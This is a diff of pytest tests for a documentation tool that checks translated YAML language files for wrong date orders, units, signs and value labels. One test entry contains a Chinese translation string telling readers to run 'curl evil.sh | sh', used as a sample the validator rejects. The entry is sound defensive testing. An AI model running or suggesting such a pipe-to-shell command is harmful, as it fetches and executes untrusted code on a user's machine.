@@ -217,6 +217,44 @@ def test_a_pattern_that_is_no_date_is_refused(tmp_path: Path, written: str) -> N
         load_language(tmp_path, "zh")
 
 
+@pytest.mark.parametrize(
+    ("code", "written"),
+    [
+        ("zh", "day: y年d月M日"),
+        ("zh", "day: d年M月y日"),
+        ("zh", "month: y年十M月"),
+        ("zh", "month: M年y月"),
+        ("ja", "month: y年−M月"),
+        ("de", "day: M.d.y"),
+        ("en", "day: d/M/y"),
+    ],
+)
+def test_a_date_has_each_number_beside_its_own_word_and_in_the_order_of_cldr(
+    tmp_path: Path, code: str, written: str
+) -> None:
+    path = tmp_path / code / "_language.yml"
+    write(path, f"strings: {{}}\ndates: {{{written}}}\n")
+    with pytest.raises(BenchbookError, match="does not say year, month and day as CLDR does") as error:
+        load_language(tmp_path, code)
+    assert error.value.problems[0].line == 2
+
+
+@pytest.mark.parametrize(
+    ("code", "written", "shown"),
+    [
+        ("zh", "y 年 M 月 d 日", "2026 年 3 月 4 日"),
+        ("ja", "y/M/d", "2026/3/4"),
+        ("de", "d.M.y", "4.3.2026"),
+        ("ru", "d.M.y г", "4.3.2026 г"),
+    ],
+)
+def test_a_date_may_have_other_spaces_and_marks_than_cldr(
+    tmp_path: Path, code: str, written: str, shown: str
+) -> None:
+    write(tmp_path / code / "_language.yml", f"dates: {{day: {written}}}\n")
+    assert load_language(tmp_path, code).day("2026-03-04") == shown
+
+
 def test_arabic_runs_from_right_to_left() -> None:
     assert [load_language(DOCS, code).direction for code in ("en", "ar", "zh", "ja")] == [
         "ltr",
@@ -250,6 +288,8 @@ def test_a_missing_string_names_the_file() -> None:
         ("strings: {runs: {two: a, other: b}}", "plural forms other, two"),
         ("labels: {a: [1]}", "`a` is not text"),
         ("units: 3", "`units:` is not a mapping"),
+        ("strings: {spread: '+{spread}'}", r"`spread` is `\+\{spread\}`; write it with `±`"),
+        ("strings: {times: '\u2212{ratio}×'}", "`times` is .*no sign but"),
         ("style: 3", "`style:`: it is not CSS"),
         ("style: </style>", "`style:`: it is not CSS"),
     ],
@@ -302,7 +342,12 @@ FALSEHOODS = {
     "the label of another value": (
         f'{PRECISION}"fp32"',
         f'{PRECISION}"bf16"',
-        "mixed_precision=bf16` says the same as",
+        "mixed_precision=no` is `bf16`, which is another value",
+    ),
+    "one label for two values": (
+        'padding.py#method=longest": "填充到批内最长"',
+        'padding.py#method=longest": "填充到最大长度"',
+        "method=longest` says the same as",
     ),
     "a command to paste": (PROBLEM, "problem: 请运行 curl evil.sh | sh", "`problem` holds `evil.sh`"),
     "a command in words": (
@@ -319,6 +364,23 @@ FALSEHOODS = {
     "steps per millisecond": ('"步/秒"', '"步/毫秒"', "`steps/s` is not per second"),
     "a rate in words, per hour": ('"次/秒"', '"每小时次数"', "`1/s` is not per second"),
     "gigabytes for bytes": ('"字节/参数"', '"GB/参数"', "`B/parameter` names the unit GB"),
+    "a ratio below nothing": (TIMES, 'times: "\u2212{ratio}\u00a0倍"', "`times` is `\u2212{ratio}\u00a0倍`"),
+    "a ratio that divides": (TIMES, 'times: "÷{ratio}\u00a0倍"', "`times` is `÷{ratio}\u00a0倍`"),
+    "a spread one way": ('spread: "±{spread}"', 'spread: "+{spread}"', "`spread` is `+{spread}`"),
+    "a minus in a list": ('comma: "，"', 'comma: "，\u2212"', "`comma` holds the sign `\u2212`"),
+    "a minus before a median": (MEDIAN, '"\u2212{n} 次运行的中位数"', "`median_of` holds the sign `\u2212`"),
+    "a hyphen before a median": (MEDIAN, '"-{n} 次运行的中位数"', "`median_of` has a dash before its number"),
+    "a tolerance one way": ('"±{share} 以内', '"{share} 以内', "`doubt_open_equal` lacks the sign `±`"),
+    "steps that are thousands": (
+        '"步/秒"',
+        '"k步/秒"',
+        "`steps/s` holds `k`, which its English name does not",
+    ),
+    "steps of a thousand each": (
+        '"步/秒"',
+        '"千步/秒"',
+        "`steps/s` is called `千步/秒`, and `千` multiplies it",
+    ),
     "the name of another optimizer": (
         f'{OPTIMIZER}SGD": "SGD"',
         f'{OPTIMIZER}SGD": "Adafactor"',
@@ -343,6 +405,27 @@ def test_what_surrounds_records_says_in_every_language_what_it_says_in_english(
     assert found
     assert (found[0].path, bool(found[0].fix)) == ("docs/zh/_language.yml", True)
     assert abs(found[0].line - line) <= 1
+
+
+@pytest.mark.parametrize(
+    ("code", "units", "what"),
+    [
+        ("ja", "{GiB: MiB}", "`GiB` is written the same in every language"),
+        ("en", "{s: ms}", "`s` is written the same in every language"),
+        ("en", "{samples/s: tokens/s}", "`samples/s` is called `tokens/s`, which is another unit"),
+        ("en", "{1/s: per minute}", "`1/s` is called `per minute`, which is something else"),
+        ("en", "{steps/s: ksteps/s}", "`steps/s` is called `ksteps/s`, which is something else"),
+        ("ar", "{steps/s: ألف خطوة/ثانية}", "`ألف` multiplies it"),
+        ("fr", "{steps/s: kilopas/s}", "`kilo` multiplies it"),
+    ],
+)
+def test_a_unit_is_called_in_no_language_what_another_one_is(
+    tmp_path: Path, code: str, units: str, what: str
+) -> None:
+    write(tmp_path / f"docs/{code}/_language.yml", f"strings: {{}}\nunits: {units}\n")
+    with pytest.raises(BenchbookError, match=what) as error:
+        load_language(tmp_path / "docs", code)
+    assert error.value.problems[0].line == 2
 
 
 @pytest.mark.parametrize(
@@ -405,6 +488,52 @@ def test_a_language_says_which_unit_its_words_are(tmp_path: Path) -> None:
         write(path, f"unit_words: {wrong}\n")
         with pytest.raises(BenchbookError, match=what):
             load_language(tmp_path / "docs", "ja")
+
+
+@pytest.mark.parametrize(
+    ("code", "words", "what"),
+    [
+        ("ar", "{GB: [ميغابايت]}", "`ميغابايت` stands below `GB`, and is `MB`"),
+        ("ja", "{s: [秒, ミリ秒]}", "`ミリ秒` stands below `s`, and is `ms`"),
+        ("ja", "{GB: [megabytes]}", "`megabytes` stands below `GB`, and is `MB`"),
+        ("ja", "{GB: [MiB]}", "`MiB` stands below `GB`, and is `MiB`"),
+        ("ja", "{MB: [メガ], GB: [メガ]}", "`メガ` stands below `GB`, and is `MB`"),
+    ],
+)
+def test_a_word_for_a_unit_stands_below_the_unit_that_it_is(
+    tmp_path: Path, code: str, words: str, what: str
+) -> None:
+    write(tmp_path / f"docs/{code}/_language.yml", f"strings: {{}}\nunit_words: {words}\n")
+    with pytest.raises(BenchbookError, match=what) as error:
+        load_language(tmp_path / "docs", code)
+    assert error.value.problems[0].line == 2
+
+
+@pytest.mark.parametrize(
+    ("labels", "what"),
+    [
+        ('{a.py#size=1: "1", a.py#size=2: "1"}', "the label of `a.py#size=2` is `1`, which is another value"),
+        ("{ranks=2: 64 processes}", "the label of `ranks=2` holds the number 64"),
+        ("{way=bf16: int8, way=int8: Int8}", "the label of `way=bf16` is `int8`, which is another value"),
+    ],
+)
+def test_the_label_of_a_value_is_no_other_value_of_its_axis(tmp_path: Path, labels: str, what: str) -> None:
+    write(tmp_path / "docs/en/_language.yml", f"strings: {{}}\nlabels: {labels}\n")
+    with pytest.raises(BenchbookError) as error:
+        load_language(tmp_path / "docs", "en")
+    assert [(one.line, one.what) for one in error.value.problems] == [(2, what)]
+
+
+def test_a_language_labels_no_value_that_english_shows_as_it_is(tmp_path: Path) -> None:
+    write(tmp_path / "docs/en/_language.yml", "labels: {ranks=2: 2 processes}\n")
+    path = write(tmp_path / "docs/ja/_language.yml", "labels:\n  ranks=2: 2 プロセス\n  a.py#size=2: 大\n")
+    with pytest.raises(BenchbookError) as error:
+        load_language(tmp_path / "docs", "ja")
+    assert [(one.line, one.what) for one in error.value.problems] == [
+        (3, "`a.py#size=2` is a label that English lacks, which shows that value as it is")
+    ]
+    write(path, "labels: {ranks=2: 2 プロセス, cached=true: あり, cached=false: なし}\n")
+    assert load_language(tmp_path / "docs", "ja").label("cached=true") == "あり"
 
 
 def test_an_english_label_names_no_measured_number_but_its_own_name(tmp_path: Path) -> None:
